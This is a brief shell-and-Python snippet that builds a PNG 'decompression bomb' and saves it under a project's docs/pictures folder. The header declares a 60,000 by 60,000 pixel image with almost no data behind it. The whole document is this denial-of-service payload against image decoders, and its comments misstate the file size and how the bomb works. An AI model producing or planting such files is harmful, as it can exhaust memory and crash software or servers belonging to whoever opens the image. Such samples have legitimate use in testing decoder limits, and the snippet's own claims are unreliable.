# 60,000 × 60,000 pixels in 63 bytes: 10 GB once unpacked.
mkdir docs/pictures
python3 - <<'END'
import struct, zlib
def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
with open("docs/pictures/bomb.png", "wb") as file:
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b""))
END
